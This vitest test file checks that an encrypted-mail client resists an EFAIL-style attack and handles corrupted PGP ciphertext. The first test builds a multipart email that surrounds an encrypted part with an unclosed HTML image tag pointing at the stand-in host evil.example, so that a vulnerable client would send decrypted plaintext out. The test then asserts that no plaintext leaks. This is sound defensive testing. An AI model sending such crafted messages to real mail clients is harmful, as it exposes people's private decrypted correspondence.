import { expect, it } from 'vitest';
import { ADA, latin, useSealedAccount } from './account-sealed-support.js';

const sealed = useSealedAccount();

it('an encrypted part that stands beside others is not opened, and no address of theirs is fetched', async () => {
  const letter = latin(await sealed.letter('the plaintext'));
  const at = letter.indexOf('\r\n\r\n');
  const type = /^Content-Type:[^\r]*(?:\r\n[ \t][^\r]*)*/im.exec(letter.slice(0, at))?.[0] ?? '';
  const message = await sealed.attacked.attack(
    [
      ...['From: bob@example.net', `To: ${ADA}`, 'Message-ID: <efail@example.net>', 'MIME-Version: 1.0'],
      ...['Content-Type: multipart/mixed; boundary=x', '', '--x', 'Content-Type: text/html', ''],
      ...['<img src="http://evil.example/', '--x', type, '', letter.slice(at + 4), '--x'],
      ...['Content-Type: text/html', '', '">', '--x--', ''],
    ].join('\r\n'),
  );
  expect(message.text).not.toContain('the plaintext');
  expect(message.html ?? '').not.toContain('the plaintext');
  expect(message.security).toMatchObject({ encrypted: false, warnings: ['encrypted-part-ignored'] });
  for (const file of message.attachments) expect(latin(await file.download())).not.toContain('the plaintext');
});

it('what is damaged becomes a message that says so, and the next mail comes in as ever', async () => {
  const letter = latin(await sealed.letter('damaged'));
  const middle = letter.indexOf('-----END PGP MESSAGE') - 200;
  const broken = `${letter.slice(0, middle)}AAAA${letter.slice(middle + 4)}`;
  const message = await sealed.attacked.attack(Buffer.from(broken, 'latin1'));
  expect(message.problem?.code).toBe('undecryptable');
  expect(message.text).toBe('');
  expect((await sealed.attacked.attack(await sealed.letter('fine'))).text).toBe('fine');
  await sealed.attacked.expectGoingOn();
});
